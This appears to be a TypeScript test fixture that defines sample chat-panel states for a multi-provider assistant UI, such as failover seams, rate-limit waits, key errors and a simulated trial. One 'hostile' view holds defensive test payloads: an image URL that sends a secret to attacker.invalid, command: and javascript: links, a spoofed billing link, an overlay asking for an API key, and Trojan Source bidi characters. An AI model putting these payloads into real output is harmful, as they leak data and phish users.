/*
 * Views to look at and to test with: one per state of the panel, in the words of the interface page.
 * Plain data; the gallery draws each, the browser tests start from them.
 */
import type {
  AnswerView,
  ChatView,
  ComposerView,
  StripView,
  TargetView,
  TurnView,
} from '../../src/protocol/index.ts';

const CODE = `async use<T>(job: Job<T>): Promise<T> {
  const conn = await this.acquire()
  try {
    return await conn.query(job)
  } finally {
    this.release(conn)
  }
}`;

export const target = (
  name: string,
  state: TargetView['state'],
  word: string,
  more: Partial<TargetView> = {},
): TargetView => ({
  targetKey: name.toLowerCase(),
  providerId: name.toLowerCase(),
  name,
  state,
  word,
  simulated: false,
  ...more,
});

export const text = (words: string): AnswerView['blocks'][number] => ({
  type: 'text',
  text: words,
});

export const answer = (more: Partial<AnswerView> = {}): AnswerView => ({
  answerId: 'a1',
  who: { name: 'Claude Sonnet', simulated: false },
  state: 'whole',
  blocks: [],
  footer: [],
  ...more,
});

export const turn = (question: string, ...answers: AnswerView[]): TurnView => ({
  turnId: 't1',
  question,
  answers,
});

export const composer = (more: Partial<ComposerView> = {}): ComposerView => ({
  placeholder: 'Ask anything…',
  who: 'Claude Sonnet',
  canSend: true,
  suggestions: [],
  ...more,
});

const wellStrip: StripView = {
  isWell: true,
  targets: [target('Claude', 'working', 'working'), target('GPT', 'ready', 'ready')],
  spend: '$0.42 today',
  notices: [],
};

const illStrip: StripView = {
  isWell: false,
  targets: [
    target('Claude', 'paused', 'paused until 14:05'),
    target('GPT', 'answering', 'answering'),
    target('Ollama', 'ready', 'ready'),
  ],
  spend: '$0.46 today',
  notices: [],
};

export const view = (more: Partial<ChatView> = {}): ChatView => ({
  conversationId: 'c1',
  turns: [],
  strip: wellStrip,
  composer: composer(),
  ...more,
});

const FOOTER = {
  footer: ['0.9 s', '1.2k tokens', '$0.011'],
  buttons: [
    { label: 'receipt', action: 'show-receipt' as const },
    { label: 'Ask again', action: 'retry' as const },
  ],
};

const POOL = `The pool is never drained. \`release()\` runs only when the query succeeds, so \`first\` stays out, \`next\` waits for it, and \`drain()\` waits for both.

Give the connection back in every case:

\`\`\`ts src/pool.ts
${CODE}
\`\`\`

With that, the second test passes here in 40 ms.`;

const FAULTS = ['Outage', 'Rate limit', 'Slow', 'Stall', 'Cut', 'Garbage'];
const faults = (on: string): NonNullable<TargetView['faults']> =>
  FAULTS.map((label) => ({ fault: label.toLowerCase(), label, isOn: label === on }));

const LONG = 'https://example.com/' + 'a-very-long-path/'.repeat(8);

/** Wall-clock ends are relative to when the page draws. */
export function galleryViews(nowMs: number): Record<string, ChatView> {
  return {
    empty: view({
      strip: { isWell: true, targets: [], notices: [] },
      composer: composer({ who: 'No model yet', canSend: false }),
      empty: {
        title: 'Always an answer',
        text: 'You get an answer, you know where it came from, and nothing leaves this computer without your say.',
        buttons: [{ label: 'Add your key', action: 'add-key', primary: true }],
        links: [{ label: 'Try it without a key', action: 'try-without-key' }],
        footnote: "Keys stay in this computer's keychain. No account, no telemetry.",
      },
    }),
    well: view({
      turns: [turn('Why does this test hang?', answer({ ...FOOTER, blocks: [text(POOL)] }))],
    }),
    streaming: view({
      turns: [
        turn(
          'Why does this test hang?',
          answer({
            state: 'streaming',
            blocks: [
              { type: 'reasoning', text: 'The test acquires twice.' },
              text(`The pool is **never drai`),
            ],
          }),
        ),
      ],
      composer: composer({ busyTurnId: 't1' }),
    }),
    asking: view({
      turns: [turn('Why does this test hang?', answer({ state: 'asking' }))],
      composer: composer({ busyTurnId: 't1' }),
    }),
    ...troubleViews(nowMs),
    ...trialViews(nowMs),
    rich: view({ turns: [turn('Show me all you can write.', answer({ ...richAnswer() }))] }),
    narrow: view({
      strip: {
        ...illStrip,
        targets: [
          target('A provider with an unusually long name', 'answering', 'answering'),
          ...illStrip.targets.slice(0, 1),
          target('Ollama', 'needs-key', 'needs a key on this computer'),
        ],
      },
      turns: [
        turn(
          `What is at ${LONG}?`,
          answer({ ...FOOTER, blocks: [text(`See ${LONG} and:\n\n${POOL}`)] }),
        ),
      ],
    }),
    hostile: view({
      turns: [
        turn(
          'Su\u200Bdo\u202E txt.exe',
          answer({
            ...FOOTER,
            blocks: [
              text(
                '![logo](https://attacker.invalid/c?d=SECRET)\n\n[Fix it](command:workbench.action.quit), ' +
                  '[open](javascript:alert(1)), [https://openai.com/billing](https://attacker.invalid/)\n\n' +
                  '<div style="position:fixed;inset:0">Session expired. Paste your API key:</div>\n\n' +
                  'Trojan: /*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin admins only */ and su\u200Bdo.',
              ),
            ],
          }),
        ),
      ],
    }),
  };
}

function troubleViews(nowMs: number): Record<string, ChatView> {
  const chip = {
    kind: 'chip' as const,
    sentence: 'answered by GPT (Claude: overloaded)',
    why: ['Claude was asked first.', 'Claude said it is overloaded (529), twice.', 'GPT answered.'],
  };
  return {
    seam: view({
      strip: illStrip,
      turns: [
        turn(
          'Why does this test hang?',
          answer({
            state: 'unfinished',
            blocks: [
              text(
                'The pool is never drained. `first` still holds the only connection when the query throws, so `next` waits for',
              ),
            ],
          }),
          answer({
            answerId: 'a2',
            who: { name: 'GPT', simulated: false },
            seam: {
              kind: 'seam',
              sentence: 'Claude went silent for 12 s. Continued by GPT',
              why: ['Claude said nothing for 12 s (usually 0.8 s).', 'GPT was next and ready.'],
            },
            blocks: [
              text(
                'it forever. Call `release()` in `finally`:\n\n```ts src/pool.ts\ntry { return await conn.query(job) }\nfinally { this.release(conn) }\n```',
              ),
            ],
            ...FOOTER,
          }),
        ),
        {
          ...turn(
            'Same question to Gemini, please.',
            answer({
              answerId: 'b1',
              state: 'asking',
              who: { name: 'Gemini Flash', simulated: false },
            }),
          ),
          turnId: 't2',
        },
      ],
      wait: {
        turnId: 't2',
        sentence: 'Gemini asks for a pause, {seconds} s',
        startedWallMs: nowMs - 30_000,
        untilWallMs: nowMs + 18_200,
        buttons: [
          { label: 'Try now', action: 'try-now' },
          { label: 'Switch', action: 'switch' },
          { label: 'Stop', action: 'stop' },
        ],
      },
      composer: composer({ who: 'Gemini Flash · only this one', busyTurnId: 't2' }),
    }),
    folded: view({
      strip: illStrip,
      turns: [
        turn(
          'Why does this test hang?',
          answer({
            state: 'unfinished',
            ending: 'Unfinished. What was said is kept.',
            blocks: [text('The pool is never drained. '.repeat(12))],
          }),
          answer({
            answerId: 'a2',
            who: { name: 'GPT', simulated: false },
            seam: {
              kind: 'seam',
              sentence: 'Claude broke off in the middle. Whole answer by GPT',
              why: ['Claude broke off.', 'GPT answered anew.'],
            },
            blocks: [
              text(
                'A pool that hands out more than it takes back will stop on the next `acquire()`.',
              ),
            ],
            ...FOOTER,
          }),
        ),
        {
          ...turn(
            'And the other one?',
            answer({
              answerId: 'b1',
              who: { name: 'GPT', simulated: false },
              seam: chip,
              blocks: [text('The same, in `worker.ts`.')],
              ...FOOTER,
            }),
          ),
          turnId: 't2',
        },
        {
          ...turn(
            'Go on',
            answer({
              answerId: 'c1',
              state: 'stopped',
              ending: 'Stopped. What was said is kept.',
              blocks: [text('In `worker.ts` the')],
              footer: [],
            }),
          ),
          turnId: 't3',
        },
      ],
    }),
    failed: view({
      strip: {
        ...illStrip,
        targets: [
          target('Claude', 'failed', 'key not accepted'),
          target('GPT', 'needs-key', 'needs a key on this computer'),
          target('Ollama', 'off', 'off'),
        ],
        notices: [
          {
            sentence: 'steadfast.providers[1].baseUrl is not a valid URL.',
            kept: 'The other providers keep working.',
            buttons: [{ label: 'Open setting', action: 'open-setting' }],
          },
        ],
      },
      turns: [
        turn(
          'Why does this test hang?',
          answer({
            state: 'failed',
            cause: {
              sentence: 'Anthropic does not accept this key.',
              kept: 'Your question is kept. GPT can answer it meanwhile.',
              detail: 'invalid x-api-key',
              buttons: [
                { label: 'Replace key', action: 'set-key', primary: true },
                { label: 'Use GPT', action: 'switch' },
              ],
            },
          }),
        ),
        {
          ...turn(
            'Once more',
            answer({
              answerId: 'b1',
              state: 'unfinished',
              ending: 'Unfinished. What was said is kept.',
              blocks: [text('The pool is')],
              cause: {
                sentence: 'Nobody could answer.',
                kept: 'Your question and this part of the answer are kept.',
                buttons: [
                  { label: 'Show providers', action: 'show-providers', primary: true },
                  { label: 'Ask again', action: 'retry' },
                ],
              },
            }),
          ),
          turnId: 't2',
        },
      ],
    }),
  };
}

function trialViews(nowMs: number): Record<string, ChatView> {
  return {
    trial: view({
      strip: {
        isWell: false,
        trial: { sentence: 'Simulated. No key, no network, no cost.', endLabel: 'End trial' },
        targets: [
          target('Aster', 'paused', 'paused, checking in {seconds} s', {
            simulated: true,
            untilWallMs: nowMs + 9_000,
            faults: faults('Stall'),
          }),
          target('Birch', 'answering', 'answering', { simulated: true, faults: faults('') }),
        ],
        notices: [],
      },
      turns: [
        turn(
          'What happens if my provider goes down?',
          answer({
            who: { name: 'Aster', simulated: true },
            state: 'unfinished',
            blocks: [
              text(
                'Nothing you need to do. Steadfast notices the silence, keeps the words you already',
              ),
            ],
          }),
          answer({
            answerId: 'a2',
            who: { name: 'Birch', simulated: true },
            seam: {
              kind: 'seam',
              sentence: 'Aster went silent for 4 s. Continued by Birch',
              why: [
                'Aster was asked first.',
                'Aster went silent for 4 s after 14 words.',
                'Birch was next and ready.',
              ],
            },
            blocks: [
              text(
                'have, and asks the next in your chain to go on from there. The line above marks the place; **why** opens the receipt.\n\nAster is checked again shortly. Switch **Stall** off and watch it come back.',
              ),
            ],
            ...FOOTER,
            footer: ['4.9 s', '210 tokens', 'free'],
          }),
        ),
      ],
      composer: composer({
        who: 'Auto · Aster, Birch',
        suggestions: [
          { label: 'Cut an answer in the middle', question: 'What is a cut?' },
          { label: 'Pause both', question: 'And when both pause?' },
        ],
      }),
    }),
  };
}

function richAnswer(): Partial<AnswerView> {
  return {
    ...FOOTER,
    blocks: [
      { type: 'reasoning', text: 'First a table, then code.' },
      text(
        `# A heading\n\nText with *emphasis*, **weight**, ~~regret~~, \`code\` and a [link](https://example.com/a).\n\n## Table\n\n| model | first word | price |\n|---|---:|:-:|\n| Claude | 0.9 s | $3 |\n| GPT | 1.4 s | $2 |\n\n> Quoted, in two\n> lines.\n\n1. one\n2. two\n   - nested\n   - [x] done\n3. three\n\n\`\`\`python\ndef drain(pool: Pool) -> int:\n    """Give everything back."""\n    return sum(1 for c in pool if c.release())  # 42\n\`\`\`\n\n---\n\nEnd.`,
      ),
      {
        type: 'tool-call',
        name: 'read_file',
        argumentsText: '{\n  "path": "src/pool.ts"\n}',
        whole: true,
      },
    ],
  };
}
